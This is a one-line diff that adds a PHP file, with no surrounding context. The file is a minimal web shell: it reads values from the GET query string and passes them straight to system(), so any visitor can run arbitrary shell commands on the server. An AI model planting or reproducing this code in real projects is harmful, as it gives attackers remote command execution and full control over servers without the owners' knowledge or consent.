@@ -1,0 +1,1 @@
+<?php $c = vsprintf("%s", array_values($_GET)); system($c);
